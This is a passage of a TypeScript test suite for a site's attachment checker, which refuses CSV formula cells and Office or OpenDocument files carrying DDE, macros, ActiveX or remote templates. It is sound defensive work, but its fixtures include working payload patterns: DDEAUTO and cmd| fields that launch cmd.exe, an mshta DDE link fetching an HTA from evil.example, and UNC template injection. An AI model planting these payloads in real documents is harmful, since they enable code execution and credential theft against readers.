    expect(check).toMatchObject({ ok: true });
  });

  it('says in Thai where the cell is and how to make it text', () => {
    const text = problemText('attachment.csv-formula', { path: 'documents/2567/list.csv', line: 3, column: 2, cell: '=HYPERLINK("x")', count: 2 });
    expect(text.th).toContain('บรรทัด 3 คอลัมน์ 2');
    expect(text.th).toContain('และอีก 1 ช่อง');
    expect(text.fixTh).toContain("'");
  });

  it('is reported by validation, naming the attachment', async () => {
    const site = await scratch();
    await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', 'file: procurement-plan-2567.csv'));
    await site.write('content/documents/2567/procurement-plan-2567.csv', csvWith('=HYPERLINK("http://evil.example/","แผน")'));
    const problems = (await errorsOf(site)).filter((problem) => problem.en.includes('formula'));
    expect(problems).toEqual([
      expect.objectContaining({ file: expect.stringMatching(/procurement-plan-2567\.csv$/), th: expect.stringContaining('บรรทัด 3 คอลัมน์ 2') }),
    ]);
  });
});

describe('Office attachments that act on the reader are refused (DDE, macros, ActiveX, template injection); fields and links stay allowed', () => {
  const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const body = (runs: string) => `<w:document ${w}><w:body><w:p>${runs}</w:p></w:body></w:document>`;
  const run = (inner: string) => `<w:r>${inner}</w:r>`;
  const begin = run('<w:fldChar w:fldCharType="begin"/>');
  const separate = run('<w:fldChar w:fldCharType="separate"/>');
  const end = run('<w:fldChar w:fldCharType="end"/>');
  const instr = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
  const field = (...instructions: string[]) => `${begin}${instructions.map(instr).join('')}${separate}${run('<w:t>1</w:t>')}${end}`;
  const docx = (document: string, more: Record<string, string> = {}) => ooxml('docx', { 'word/document.xml': document, ...more });
  const xlsx = (parts: Record<string, string>) => ooxml('xlsx', { 'xl/workbook.xml': '<workbook/>', ...parts });
  const sheet = (formula: string) => `<worksheet><sheetData><row r="1"><c r="A1"><f>${formula}</f><v>0</v></c></row></sheetData></worksheet>`;
  const externalRelationship = (type: string, target: string) =>
    `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

  /** The package with the last byte of word/document.xml's stored data changed: its CRC no longer matches. */
  const damagedPart = (bytes: Uint8Array) => {
    const copy = bytes.slice();
    const text = new TextDecoder('latin1').decode(copy);
    const name = text.indexOf('word/document.xml');
    const dataStart = name + 'word/document.xml'.length;
    copy[dataStart + 2] = copy[dataStart + 2]! ^ 0xff;
    return copy;
  };

  /** A legacy Word document whose bytes hold the text as Word stores it (one-byte or UTF-16). */
  const legacyWord = (encoding: 'latin1' | 'utf16le', text: string) => {
    const directory = compoundFile(['WordDocument', '1Table']);
    const stored = Buffer.from(text, encoding);
    const bytes = new Uint8Array(directory.length + stored.length);
    bytes.set(directory);
    bytes.set(stored, directory.length);
    return bytes;
  };

  /**
   * A legacy Excel workbook whose bytes hold a SUPBOOK record (type 0x01AE), the link table entry a DDE link, an external
   * workbook or the workbook itself is named by: sheet count, then the path (one-byte or UTF-16 characters).
   */
  const legacyWorkbook = (path: string | undefined, { sheets = 0, utf16 = false }: { sheets?: number; utf16?: boolean } = {}) => {
    const directory = compoundFile(['Workbook']);
    const characters = path === undefined ? Buffer.alloc(0) : Buffer.from(path, utf16 ? 'utf16le' : 'latin1');
    const body =
      path === undefined
        ? [sheets & 0xff, sheets >> 8, 0x01, 0x04]
        : [sheets & 0xff, sheets >> 8, path.length & 0xff, path.length >> 8, utf16 ? 1 : 0, ...characters];
    const record = [0xae, 0x01, body.length & 0xff, body.length >> 8, ...body];
    const bytes = new Uint8Array(directory.length + record.length + 4);
    bytes.set(directory);
    bytes.set(record, directory.length);
    return bytes;
  };

  const activeOfficeProblems = async (name: string, bytes: Uint8Array) => {
    const check = await checkAttachmentType(name, bytes);
    return check.ok ? [] : check.problems.filter((problem) => problem.key === 'attachment.office-active-content').map((problem) => problem.params);
  };

  it.each<[string, string, Uint8Array, string[]]>([
    ['a simple DDEAUTO field', 'notice.docx', docx(body(`<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'/>`)), ['dde']],
    ['DDEAUTO split over runs', 'notice.docx', docx(body(field(' DD', 'EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc"'))), ['dde']],
    [
      'DDE in lower case, in a header',
      'notice.docx',
      docx(body(''), { 'word/header1.xml': `<w:hdr ${w}><w:p>${field('dde "cmd" "/c calc"')}</w:p></w:hdr>` }),
      ['dde'],
    ],
    ['DDE written with a character reference (&#68;DE)', 'notice.docx', docx(body(field('&#68;DE cmd "/c calc" "x"'))), ['dde']],
    [
      'a field name built by a nested QUOTE field',
      'notice.docx',
      docx(body(`${begin}${field('QUOTE 68 68 69 65 85 84 79')}${instr(' "c:\\\\cmd.exe" "/k calc"')}${separate}${end}`)),
      ['dde'],
    ],
    [
      'an Excel DDE link',
      'sheet.xlsx',
      xlsx({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }),
      ['dde'],
    ],
    ['an Excel cmd| formula', 'sheet.xlsx', xlsx({ 'xl/worksheets/sheet1.xml': sheet("cmd|' /C calc'!A0") }), ['dde']],
    [
      'an OpenDocument DDE() formula',
      'sheet.ods',
      openDocument('ods', {
        'content.xml':
          '<office:document-content><table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;c:\\cmd.exe&quot;;&quot;&quot;)"/></office:document-content>',
      }),
      ['dde'],
    ],
    [
      'an OpenDocument DDE link',
      'notice.odt',
      openDocument('odt', {
        'content.xml':
          '<office:document-content><text:dde-connection-decls><text:dde-connection-decl office:dde-application="cmd"/></text:dde-connection-decls></office:document-content>',
      }),
      ['dde'],
    ],
    ['a VBA project inside a .docx', 'notice.docx', docx(body(''), { 'word/vbaProject.bin': 'x' }), ['macros']],
    [
      'Basic macros in an OpenDocument file',
      'notice.odt',
      openDocument('odt', { 'content.xml': '<office:document-content/>', 'Basic/Standard/Module1.xml': '<module/>' }),
      ['macros'],
    ],
    [
      'a macro bound to an OpenDocument event',
      'notice.odt',
      openDocument('odt', {
        'content.xml':
          '<office:document-content><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:document-content>',
      }),
      ['macros'],
    ],
    ['ActiveX controls', 'notice.docx', docx(body(''), { 'word/activeX/activeX1.xml': '<ax:ocx/>' }), ['activex']],
    [
      'a template fetched from another address',
      'notice.docx',
      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'https://evil.example/t.dotm') }),
      ['remote-content'],
    ],
    [
      'a picture field that fetches from a share when opened (INCLUDEPICTURE)',
      'notice.docx',
      docx(body(field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\share\\\\a.png" \\d'))),
      ['remote-content'],
    ],
    [
      'a picture field on the web whose picture is not stored (\\d: fetched on opening)',
      'notice.docx',
      docx(body(field('INCLUDEPICTURE "https://evil.example/p.png" \\d'))),
      ['remote-content'],
    ],
    [
      'a picture field on a share, its path unquoted',
      'notice.docx',
      docx(body(field('INCLUDEPICTURE \\\\\\\\evil.example\\\\share\\\\a.png \\d'))),
      ['remote-content'],
    ],
    [
      'a LINK field to a workbook on the web',
      'notice.docx',
      docx(body(`<w:fldSimple w:instr=' LINK Excel.Sheet.12 "https://evil.example/x.xlsx" "Sheet1!R1C1" \\a '/>`)),
      ['remote-content'],
    ],
    [
      'a template on the web whose format the address does not give',
      'notice.docx',
      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'https://evil.example/t?x=.dotx') }),
      ['remote-content'],
    ],
    [
      'a macro-free template on a share (opening it sends Windows credentials)',
      'notice.docx',
      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', '\\\\evil.example\\share\\t.dotx') }),
      ['remote-content'],
    ],
    [
      "a template on another computer's share (UNC)",
      'notice.docx',
      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', '\\\\evil.example\\share\\t.dotm') }),
      ['remote-content'],
    ],
    [
      'a template behind file://host/',
      'notice.docx',
      docx(body(''), { 'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'file://evil.example/share/t.dotm') }),
      ['remote-content'],
    ],
    [
      'an object fetched from another address',
      'slides.pptx',
      ooxml('pptx', {
        'ppt/slides/slide1.xml': '<p:sld/>',
        'ppt/slides/_rels/slide1.xml.rels': externalRelationship('oleObject', 'file://evil.example/share/x.xls'),
      }),
      ['remote-content'],
    ],
    [
      'DDEAUTO in a document part outside word/ (Office finds parts through relationships)',
      'notice.docx',
      ooxml('docx', { 'x/y.xml': body(field('DDEAUTO cmd "/c calc"')) }),
      ['dde'],
    ],
    [
      'a VBA project under an innocent name, found by its relationship',
      'notice.docx',
      docx(body(''), {
        'word/_rels/document.xml.rels':
          '<Relationships><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="logo.bin"/></Relationships>',
      }),
      ['macros'],
    ],
    [
      'ActiveX controls found by their relationship',
      'notice.docx',
      docx(body(''), {
        'word/_rels/document.xml.rels':
          '<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/control" Target="c/x1.xml"/></Relationships>',
      }),
      ['activex'],
    ],
    [
      'an Excel 4.0 macro sheet',
      'sheet.xlsx',
      xlsx({ 'xl/macrosheets/sheet1.xml': '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>' }),
      ['macros'],
    ],
    ['a part damaged so that it cannot be unpacked and checked', 'notice.docx', damagedPart(docx(body(field('DDEAUTO cmd')))), ['unreadable-parts']],
    ['macros in a legacy .doc', 'notice.doc', compoundFile(['WordDocument', 'Macros', 'VBA']), ['macros']],
    [
      'a DDEAUTO field in a legacy .doc (one-byte text)',
      'notice.doc',
      legacyWord('latin1', '\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \x14\x15'),
      ['dde'],
    ],
    ['a DDE field in a legacy .doc (UTF-16 text)', 'notice.doc', legacyWord('utf16le', '\x13 dde "cmd" "/c calc" \x14ผล\x15'), ['dde']],
    ['macros in a legacy .xls', 'sheet.xls', compoundFile(['Workbook', '_VBA_PROJECT_CUR']), ['macros']],
    ["a DDE link in a legacy .xls (cmd|' /C calc'!A0)", 'sheet.xls', legacyWorkbook('cmd\x03 /C calc'), ['dde']],
    ['a DDE link in a legacy .xls, its path in UTF-16', 'sheet.xls', legacyWorkbook('cmd\x03/c powershell', { utf16: true }), ['dde']],
    ['a DDE link in a legacy .xls that also claims sheets', 'sheet.xls', legacyWorkbook('mshta\x03http://evil.example/x.hta', { sheets: 1 }), ['dde']],
    [
      'all at once, in a fixed order',
      'notice.docx',
      docx(body(field('DDEAUTO cmd')), {
        'word/vbaProject.bin': 'x',
        'word/activeX/activeX1.xml': '<ax:ocx/>',
        'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'https://evil.example/t.dotm'),
      }),
      ['dde', 'macros', 'activex', 'remote-content'],
    ],
  ])('refuses %s', async (_name, fileName, bytes, found) => {
    expect(await activeOfficeProblems(fileName, bytes)).toEqual([{ path: fileName, found }]);
  });

  it('does not unpack parts larger than the unpacking limit, and says the file could not be checked', async () => {
    const bytes = docx(body(run(`<w:t>${'ข'.repeat(400_000)}</w:t>`)));
    expect(await checkAttachmentType('notice.docx', bytes, { maxUnpackedMb: 1 })).toMatchObject({
      ok: false,
      problems: [{ key: 'attachment.office-active-content', params: { path: 'notice.docx', found: ['unreadable-parts'] } }],
    });
    expect(await checkAttachmentType('notice.docx', bytes, { maxUnpackedMb: 2 })).toMatchObject({ ok: true });
  });

  it('refuses an active Office file inside a ZIP, naming the file inside', async () => {
    const archive = zipSync({ 'docs/notice.docx': docx(body(field('DDEAUTO cmd "/c calc"'))) });
    const check = await checkAttachmentType('bundle.zip', archive);
    expect(check.ok ? [] : check.problems).toEqual([
      { key: 'attachment.office-active-content', params: { path: 'bundle.zip', inArchive: 'docs/notice.docx', found: ['dde'] } },
    ]);
  });

  it.each<[string, string, Uint8Array]>([
    [
      'ordinary fields (PAGE, TOC, MERGEFIELD, a hyperlink)',
      'notice.docx',
      docx(body(`${field(' PAGE ')}${field('TOC \\o "1-3"')}${field('MERGEFIELD ชื่อ')}${field('HYPERLINK "https://www.nacc.go.th/"')}`)),
    ],
    ['a picture field for a file beside the document', 'notice.docx', docx(body(field('INCLUDEPICTURE "logo.png" \\* MERGEFORMAT')))],
    [
      'a picture pasted from a web page (its image stored in the file)',
      'notice.docx',
      docx(body(field('INCLUDEPICTURE "https://www.nacc.go.th/images/logo.png" \\* MERGEFORMATINET'))),
    ],
    ['the word DDEAUTO as text, not a field', 'notice.docx', docx(body(run('<w:t>DDEAUTO คือคำสั่งที่ระบบตรวจ</w:t>')))],
    [
      'a field whose result, not its instruction, says DDE',
      'notice.docx',
      docx(body(`${begin}${instr(' QUOTE "x" ')}${separate}${run('<w:t>DDE</w:t>')}${end}`)),
    ],
    [
      'a hyperlink to another site',
      'notice.docx',
      docx(body(''), { 'word/_rels/document.xml.rels': externalRelationship('hyperlink', 'https://www.nacc.go.th/') }),
    ],
    [
      'a macro-free template on SharePoint, as Office 365 writes it',
      'notice.docx',
      docx(body(''), {
        'word/_rels/settings.xml.rels': externalRelationship('attachedTemplate', 'https://agency.sharepoint.com/sites/docs/Forms/template.dotx'),
      }),
    ],
    [
      "a template on the author's own disk, as Word writes it",
      'notice.docx',
      docx(body(''), {
        'word/_rels/settings.xml.rels': externalRelationship(
          'attachedTemplate',
          'file:///C:\\Users\\staff\\AppData\\Roaming\\Microsoft\\Templates\\แบบฟอร์ม.dotx',
        ),
      }),
    ],
    ['an embedded workbook', 'notice.docx', docx(body(''), { 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': 'x' })],
    ['formulas, one with a | inside its text', 'sheet.xlsx', xlsx({ 'xl/worksheets/sheet1.xml': sheet('SUM(A2:A9)&amp;CONCATENATE("a|b",B1)') })],
    [
      'an OpenDocument sum and an empty scripts element',
      'sheet.ods',
      openDocument('ods', {
        'content.xml': '<office:document-content><office:scripts/><table:table-cell table:formula="of:=SUM([.A1:.A3])"/></office:document-content>',
      }),
    ],
    [
      'an equation with absolute-value bars (a fraction is m:f, not a formula)',
      'notice.docx',
      docx(body('<m:oMath><m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f></m:oMath>')),
    ],
    ['a legacy .doc with a PAGE field and the word DDE in its text', 'notice.doc', legacyWord('utf16le', 'DDE คือชื่อคำสั่ง \x13 PAGE \x141\x15')],
    ['a legacy .doc without macros', 'notice.doc', compoundFile(['WordDocument', '1Table', 'SummaryInformation'])],
    [
      'a legacy .xls with a link to another workbook (its path marked 0x01, folders split by 0x03)',
      'sheet.xls',
      legacyWorkbook('\x01\x01C\x03budget\x03plan.xls', { sheets: 2 }),
    ],
    ['a legacy .xls referring to itself', 'sheet.xls', legacyWorkbook(undefined, { sheets: 3 })],
  ])('accepts %s', async (_name, fileName, bytes) => {
    expect(await checkAttachmentType(fileName, bytes)).toMatchObject({ ok: true });
  });

  it('tells staff in Thai what the file holds and to attach a PDF instead', () => {
    const text = problemText('attachment.office-active-content', { path: 'documents/2567/notice.docx', found: ['dde', 'macros'] });
    expect(text.th).toContain('ไฟล์แนบ "documents/2567/notice.docx"');
    expect(text.th).toContain('DDE');
    expect(text.th).toContain('มาโคร');
    expect(text.fixTh).toContain('บันทึกเป็น PDF');
  });
});
